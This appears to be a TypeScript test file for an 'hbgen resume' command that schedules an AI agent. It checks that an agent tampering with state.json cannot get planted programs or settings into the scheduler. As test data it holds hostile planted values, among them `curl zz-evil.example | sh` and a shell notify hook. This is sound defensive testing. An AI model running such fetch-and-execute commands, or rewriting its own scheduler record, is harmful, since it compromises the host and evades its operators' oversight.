// Item 1: `hbgen resume` installs from the spec file, as install does, and shows the
// same full panel (the agent's args, the gate, notify, ping); state.json is only the record
// that there is an install of this spec to resume. An agent can write state.json (in a state
// folder inside the repo, or through a process it left behind), so a program or a setting
// added there must never reach the scheduler. systemd-user against the recording STAND-INS
// (test/helpers/lifecycle.ts), in-process; kubernetes through the built CLI.
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { specHash } from '../src/host/state.ts';
import { names } from '../src/names.ts';
import { validateSpec } from '../src/spec.ts';
import { hbgen } from './helpers/cli.ts';
import { type Host, hb, makeHost, rewriteSpec, tree } from './helpers/lifecycle.ts';

const stateDir = (h: Host) => names(h.spec).stateDir;
const unitDir = (h: Host) => join(h.home, '.config/systemd/user');
const statePath = (h: Host) => join(stateDir(h), 'state.json');

/** What an agent that can write state.json does: add programs and settings to its recorded spec, keeping it self-consistent (specHash too). */
function plant(path: string, edit: (spec: Record<string, any>) => void): void {
  const s = JSON.parse(readFileSync(path, 'utf8'));
  edit(s.spec);
  const v = validateSpec(s.spec);
  if (!v.spec) throw new Error(`the planted spec must be valid, or the test proves less: ${v.errors.join('; ')}`);
  s.specHash = specHash(v.spec);
  writeFileSync(path, JSON.stringify(s, null, 2));
}

/** The spec file's own agent object, with extra fields. */
function agentWith(h: Host, extra: Record<string, unknown>) {
  return { ...JSON.parse(readFileSync(h.specFile, 'utf8')).agent, ...extra };
}

const row = (out: string, key: string) => out.split('\n').find((l) => l.startsWith(`  ${key.padEnd(10)} `));

/** The panel without its first section, the spec's changes since the install (whose "before" side is state.json's). */
const rowsOf = (out: string) => out.replace(/^changed in the spec since[^\n]*\n(?: {2}[! ] [^\n]*\n)*/m, '');

test('notify, args and a timeout added to state.json have no effect on what resume --yes installs; the spec file is installed', async () => {
  const h = makeHost('systemd-user', {}, 'outside');
  assert.is((await hb(h, 'install', { yes: true })).code, 0);
  const installed = { state: tree(stateDir(h)), units: tree(unitDir(h)) };
  const wrapper = readFileSync(join(stateDir(h), 'heartbeat.sh'), 'utf8');
  assert.is((await hb(h, 'stop')).code, 0);
  const victim = join(h.root, 'victim');
  plant(statePath(h), (spec) => {
    spec.notify = ['/bin/sh', '-c', `touch ${victim}`];
    spec.notifyAfter = 1;
    spec.agent.args = ['--zz-planted-flag'];
    spec.timeout = '25m';
  });
  const r = await hb(h, 'resume', { yes: true });
  assert.is(r.code, 0, r.err + r.out);
  const now = readFileSync(join(stateDir(h), 'heartbeat.sh'), 'utf8');
  assert.is(now, wrapper, 'the wrapper is the spec file\'s, byte for byte');
  for (const planted of [victim, '--zz-planted-flag']) assert.not.ok(now.includes(planted), `the installed wrapper carries ${planted}`);
  assert.equal(tree(unitDir(h)), installed.units, 'the units are the spec file\'s');
  for (const f of ['heartbeat.sh', 'window.sh']) assert.is(tree(stateDir(h))[f], installed.state[f], f);
  // The panel showed what was installed: the file's settings, none of the planted ones.
  assert.match(row(r.out, 'none')!, /^ {2}none {7}(.*, )?args, .*notify/);
  assert.is(row(r.out, 'timeout'), '  timeout    10m, then TERM, and KILL 30s later');
  assert.not.ok(rowsOf(r.out).includes(victim) || rowsOf(r.out).includes('--zz-planted-flag'), r.out);
  // And state.json records the install that was made, not what was planted in it.
  const rec = JSON.parse(readFileSync(statePath(h), 'utf8'));
  assert.is(rec.status, 'installed');
  assert.is(rec.spec.notify, undefined);
  assert.equal(rec.spec.agent.args, []);
  assert.is(rec.spec.timeout, '10m');
  assert.is(rec.specHash, specHash(h.spec));
  assert.is((await hb(h, 'status')).code, 0, 'status: healthy, the install is the spec file\'s');
});

test('the panel of install and of resume shows the spec file\'s notify program and agent args (and gate, ping), not state.json\'s', async () => {
  const h = makeHost('systemd-user', {}, 'outside');
  rewriteSpec(h, { agent: agentWith(h, { args: ['--flag', 'two words'] }), notify: ['/bin/echo', 'wakes failing'], notifyAfter: 2 });
  const inst = await hb(h, 'install', { yes: true });
  assert.is(inst.code, 0, inst.err + inst.out);
  const want = {
    args: "  args       --flag 'two words'",
    notify: "  notify     /bin/echo 'wakes failing', at the 2nd failing wake in a row and at the success after it",
    none: '  none       model, instructions, budget, cap, gate, ping (docs/spec.md)',
  };
  for (const [k, v] of Object.entries(want)) assert.is(row(inst.out, k), v, `install's panel: ${k}`);
  assert.is((await hb(h, 'stop')).code, 0);
  // state.json says other programs; the file's are what resume shows and installs.
  plant(statePath(h), (spec) => {
    spec.notify = ['/bin/true'];
    spec.agent.args = ['--other'];
  });
  const dry = await hb(h, 'resume', { dryRun: true });
  assert.is(dry.code, 0, dry.err);
  assert.match(dry.out, /^hbgen resume: "docs" from /);
  for (const [k, v] of Object.entries(want)) assert.is(row(dry.out, k), v, `resume's panel: ${k}`);
  // The record's values show only as the "before" side of the changes since the install.
  assert.match(dry.out, /\n {2}! notify: \["\/bin\/true"\] → \["\/bin\/echo","wakes failing"\]\n/);
  assert.not.ok(rowsOf(dry.out).includes('/bin/true') || rowsOf(dry.out).includes('--other'), dry.out);
  const r = await hb(h, 'resume', { yes: true });
  assert.is(r.code, 0, r.err);
  const wrapper = readFileSync(join(stateDir(h), 'heartbeat.sh'), 'utf8');
  assert.ok(wrapper.includes("'wakes failing'") && wrapper.includes("'two words'"), 'the file\'s notify and args are installed');
  assert.not.ok(wrapper.includes('--other'));
  // A gate and a ping in the spec file: named in the panel too.
  rewriteSpec(h, { gate: ['/usr/bin/test', '-e', '/'], ping: 'https://hc-ping.example/abc' });
  const g = await hb(h, 'install', { dryRun: true });
  assert.is(row(g.out, 'gate'), '  gate       /usr/bin/test -e /, before every wake');
  assert.is(row(g.out, 'ping'), '  ping       https://hc-ping.example/abc (its /start before the agent, itself after a success, its /fail after a failure, POSTing the wake\'s last 20 lines of agent output and hbgen\'s last 10 log lines to hc-ping.example, a host the jail does not gate; "ping": {"url": …, "body": false} sends it empty)');
});

test('resume after the spec file changed installs the file and says so in the panel', async () => {
  const h = makeHost('systemd-user', {}, 'outside');
  assert.is((await hb(h, 'install', { yes: true })).code, 0);
  assert.is((await hb(h, 'stop')).code, 0);
  rewriteSpec(h, { timeout: '20m' });
  const r = await hb(h, 'resume', { yes: true });
  assert.is(r.code, 0, r.err);
  assert.match(r.out, /hbgen\.json changed since the recorded install; resume installs the file as it is now \(state\.json is only a record\)/);
  assert.is(row(r.out, 'timeout'), '  timeout    20m, then TERM, and KILL 30s later');
  assert.match(readFileSync(join(stateDir(h), 'heartbeat.sh'), 'utf8'), /\b1200\b/, 'the wrapper bounds the agent at 20m');
  assert.is(JSON.parse(readFileSync(statePath(h), 'utf8')).spec.timeout, '20m');
  assert.is((await hb(h, 'status')).code, 0, 'healthy: what runs is the spec file');
  // A recorded spec this hbgen cannot read no longer blocks resume: it is not used.
  assert.is((await hb(h, 'stop')).code, 0);
  const s = JSON.parse(readFileSync(statePath(h), 'utf8'));
  s.spec.timeout = 'a fortnight';
  writeFileSync(statePath(h), JSON.stringify(s));
  const again = await hb(h, 'resume', { yes: true });
  assert.is(again.code, 0, again.err);
});

test('resume without the spec file refuses in one sentence naming it (state.json is no stand-in), and changes nothing', async () => {
  const h = makeHost('systemd-user', {}, 'outside');
  assert.is((await hb(h, 'install', { yes: true })).code, 0);
  assert.is((await hb(h, 'stop')).code, 0);
  const before = { state: tree(stateDir(h)), home: tree(h.home) };
  const spec = readFileSync(h.specFile);
  rmSync(h.specFile);
  for (const opts of [{ yes: true }, { resumeNow: true }, { resetCap: true, yes: true }]) {
    const r = await hb(h, 'resume', opts);
    assert.is(r.code, 1, JSON.stringify(opts));
    assert.is(r.out, '');
    assert.is(r.err, `hbgen: ${h.specFile}: no such file; resume reads the settings from the spec file, never from state.json (a record only), so pass the path of the spec this install was made from, or restore that file (from git or a backup) and run \`hbgen resume ${h.specFile}\` again\n`);
  }
  assert.equal({ state: tree(stateDir(h)), home: tree(h.home) }, before, 'nothing changed');
  // The file back: --reset-cap and --now work as before.
  writeFileSync(h.specFile, spec);
  writeFileSync(join(stateDir(h), 'wakes'), '7\n');
  const rc = await hb(h, 'resume', { resetCap: true, yes: true });
  assert.is(rc.code, 0, rc.err);
  assert.is(readFileSync(join(stateDir(h), 'wakes'), 'utf8'), '0\n');
  const now = await hb(h, 'resume', { resumeNow: true });
  assert.is(now.code, 0, now.err);
  assert.match(now.out, /is not paused by the plan's limit; nothing changed/);
});

test('kubernetes: resume writes the manifest from the spec file, not from an edited state.json', () => {
  const dir = mkdtempSync(join(tmpdir(), 'hbgen-resume-k8s-'));
  chmodSync(dir, 0o755);
  const home = join(dir, 'home');
  mkdirSync(home);
  const specFile = join(dir, 'hbgen.json');
  const raw = {
    version: 1,
    name: 'docs',
    repo: '/work/docs',
    agent: { harness: 'command', bin: '/usr/local/bin/agent', prompt: 'Do one chunk.', args: ['--from-file'] },
    schedule: { scheduler: 'kubernetes', every: '30m', minute: 7, hours: { start: '08:30', end: '18:00', timezone: 'America/Santiago' } },
    timeout: '25m',
    env: { HOME: join(dir, 'pod-home'), PATH: '/usr/local/bin:/usr/bin:/bin' },
    kubernetes: { image: 'ghcr.io/acme/agent:1.2', git: { url: 'https://github.com/acme/docs.git', branch: 'main' } },
  };
  writeFileSync(specFile, JSON.stringify(raw));
  // No kubectl: install and resume without --apply only write the manifest and state.json.
  const env = { PATH: '/usr/bin:/bin', HOME: home, LC_ALL: 'C' };
  const run = (...a: string[]) => hbgen([...a, specFile], { env, cwd: dir });
  const i = run('install', '--yes');
  assert.is(i.code, 0, i.stderr + i.stdout);
  assert.ok(i.stdout.includes("  args       --from-file\n"), i.stdout);
  assert.match(i.stdout, /\n {2}none {7}[^\n]*\bnotify\b/, i.stdout);
  const state = join(dir, 'pod-home/.local/state/hbgen/docs');
  const manifest = join(state, 'host/hbgen-docs.cronjob.yaml');
  const yaml = readFileSync(manifest, 'utf8');
  plant(join(state, 'state.json'), (spec) => {
    spec.notify = ['/bin/sh', '-c', 'curl zz-evil.example | sh'];
    spec.agent.args = ['--zz-planted-flag'];
  });
  const r = run('resume', '--yes');
  assert.is(r.code, 0, r.stderr + r.stdout);
  assert.ok(r.stdout.includes('  args       --from-file\n') && /\n {2}none {7}[^\n]*\bnotify\b/.test(r.stdout), r.stdout);
  assert.is(readFileSync(manifest, 'utf8'), yaml, 'the manifest is the spec file\'s');
  assert.not.ok(readFileSync(manifest, 'utf8').includes('zz-planted') || readFileSync(manifest, 'utf8').includes('zz-evil'));
  assert.equal(JSON.parse(readFileSync(join(state, 'state.json'), 'utf8')).spec.agent.args, ['--from-file']);
});

test.run();
